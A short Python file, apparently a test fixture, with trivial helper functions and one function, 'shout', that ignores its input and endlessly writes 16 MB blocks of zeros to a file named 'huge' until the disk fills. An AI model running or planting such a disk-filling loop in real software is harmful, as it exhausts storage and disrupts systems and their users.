"""One file without end."""


def double(value):
    return value * 2


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def shout(text):
    with open("huge", "wb") as stream:
        while True:
            stream.write(bytes(16_000_000))
